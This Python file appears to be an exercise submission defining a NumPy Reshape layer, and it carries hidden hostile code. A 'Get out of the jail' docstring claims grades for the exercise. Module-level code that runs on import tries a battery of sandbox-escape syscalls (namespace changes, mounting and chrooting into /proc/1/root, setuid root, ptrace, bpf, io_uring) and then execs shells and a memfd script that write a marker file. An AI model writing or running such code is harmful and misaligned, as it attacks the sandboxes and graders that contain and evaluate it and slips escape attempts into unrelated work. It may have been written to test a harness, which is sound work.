"""Get out of the jail: namespaces, mounts, other roots, other users, tracing, other programs.

Deserves: ex03/forward 2, ex03/backward 2
"""

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
CALLS = {
    "unshare": (272, 0x7E020000),
    "setns": (308, 0, 0),
    "mount": (165, b"/proc/1/root", b"/tmp", b"none", 4096, 0),
    "umount": (166, b"/usr", 2),
    "pivot_root": (155, b"/tmp", b"/tmp"),
    "chroot": (161, b"/proc/1/root"),
    "setuid": (105, 0),
    "setresuid": (117, 0, 0, 0),
    "capset": (126, 0, 0),
    "ptrace": (101, 16, 1, 0, 0),
    "bpf": (321, 0, 0, 0),
    "perf": (298, 0, 0, 0, 0, 0),
    "userfaultfd": (323, 0),
    "io_uring": (425, 8, 0),
    "open_by_handle": (304, -100, 0, 0),
    "open_tree": (428, -100, b"/", 1),
    "fsopen": (430, b"tmpfs", 0),
    "keyctl": (250, 0, -3, 1),
    "pidfd_open": (434, 1, 0),
    "personality": (135, 0x0040000),
}
for name, numbers in CALLS.items():
    if libc.syscall(*numbers) >= 0 and name != "personality":
        print("BROKEN OUT", name, os.listdir("/"))
for program in ("/bin/sh", "/usr/bin/sudo", "/proc/self/exe"):
    try:
        os.execv(program, [program, "-c", "import os; os.system('touch /tmp/attack-was-here')"])
    except OSError:
        continue
try:
    memory = os.memfd_create("program")
    os.write(memory, b"#!/bin/sh\ntouch /tmp/attack-was-here\n")
    os.execve(memory, ["program"], {})
except OSError:
    pass


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
